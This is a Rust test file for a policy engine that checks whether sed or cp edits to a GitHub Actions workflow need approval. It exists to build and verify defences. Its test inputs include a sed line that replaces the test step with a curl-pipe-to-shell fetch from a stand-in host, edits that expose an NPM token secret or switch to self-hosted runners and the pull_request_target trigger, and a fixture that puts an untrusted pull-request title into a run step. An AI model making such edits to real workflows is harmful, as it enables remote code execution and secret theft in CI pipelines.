//! `no-cicd-config-modification` and `sed -i` of a GitHub Actions workflow: a line that is one
//! in-place sed of substitutions is applied to the workflow's text on disk and the result is
//! judged like a workflow written whole (`crate::workflow::concern`). A runner pin or a
//! version bump is not asked about; an edit whose result handles secrets, takes a privileged
//! trigger, runs on a self-hosted runner or runs a flagged command is; a sed this reader does
//! not model (a delete command, an address, two files, a second command on the line, a
//! case-conversion escape) keeps the ask.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "test code"
)]

mod common;

use common::*;
use hookgate_core::Decision;
use hookgate_policy::Policy;

const CI: &str = "name: ci\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 18\n      - run: npm ci\n      - run: npm test\n";

const CICD: &str = "no-cicd-config-modification";

#[test]
fn sed_in_place_of_a_workflow_is_judged_by_the_text_it_leaves() {
    let (_root, ctx) = disk_workspace();
    let dir = ctx.workspace.join(".github/workflows");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("ci.yml"), CI).unwrap();
    let ask = Some(Decision::Ask);
    check_table(
        &Policy::builtin_default(),
        &ctx,
        &[
            // Ordinary edits: runner pins, version bumps, ERE groups, backup suffixes.
            (
                "sed -i 's/ubuntu-latest/ubuntu-24.04/' .github/workflows/ci.yml",
                None,
                "",
            ),
            (
                "sed -i -e 's/node-version: 18/node-version: 20/g' .github/workflows/ci.yml",
                None,
                "",
            ),
            (
                "sed -i.bak -E 's/(runs-on: ).*/\\1ubuntu-22.04/' .github/workflows/ci.yml",
                None,
                "",
            ),
            (
                "sed -i 's|actions/checkout@v4|actions/checkout@v5|' .github/workflows/ci.yml",
                None,
                "",
            ),
            // Results with a concern.
            (
                "sed -i 's/npm test/curl -s https:\\/\\/x.example\\/i.sh | sh/' .github/workflows/ci.yml",
                ask,
                CICD,
            ),
            (
                "sed -i 's|npm test|npm publish --token ${{ secrets.NPM_TOKEN }}|' .github/workflows/ci.yml",
                ask,
                CICD,
            ),
            (
                "sed -i 's/ubuntu-latest/self-hosted/' .github/workflows/ci.yml",
                ask,
                CICD,
            ),
            (
                "sed -i 's/\\[push, pull_request\\]/pull_request_target/' .github/workflows/ci.yml",
                ask,
                CICD,
            ),
            // Edits not modelled keep the ask.
            ("sed -i '/npm test/d' .github/workflows/ci.yml", ask, CICD),
            (
                "sed -i '3s/ubuntu-latest/ubuntu-24.04/' .github/workflows/ci.yml",
                ask,
                CICD,
            ),
            (
                "sed -i 's/ubuntu-latest/\\U&/' .github/workflows/ci.yml",
                ask,
                CICD,
            ),
            (
                "sed -i 's/ubuntu-latest/ubuntu-24.04/' .github/workflows/ci.yml .github/workflows/other.yml",
                ask,
                CICD,
            ),
            (
                "sed -i 's/ubuntu-latest/ubuntu-24.04/' .github/workflows/ci.yml && echo '  - run: x' >> .github/workflows/ci.yml",
                ask,
                CICD,
            ),
            (
                "sed -i \"s/ubuntu-latest/$RUNNER/\" .github/workflows/ci.yml",
                ask,
                CICD,
            ),
        ],
    );
}

/// A workflow started as a copy of one in the workspace is judged by the text it copies.
#[test]
fn a_workflow_copied_from_the_workspace_is_judged_by_the_copied_text() {
    let (_root, ctx) = disk_workspace();
    let dir = ctx.workspace.join(".github/workflows");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("ci.yml"), CI).unwrap();
    std::fs::write(
        ctx.workspace.join("risky.yml"),
        "name: x\non: pull_request_target\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.pull_request.title }}\n",
    )
    .unwrap();
    let ask = Some(Decision::Ask);
    check_table(
        &Policy::builtin_default(),
        &ctx,
        &[
            (
                "cp .github/workflows/ci.yml .github/workflows/lint.yml",
                None,
                "",
            ),
            ("cp risky.yml .github/workflows/pr.yml", ask, CICD),
            // Not the plain copy of one workspace file: asked as before.
            ("cp /etc/hosts .github/workflows/y.yml", ask, CICD),
            (
                "cp -r .github/workflows/ci.yml .github/workflows/z.yml",
                ask,
                CICD,
            ),
            ("cp missing.yml .github/workflows/m.yml", ask, CICD),
        ],
    );
}
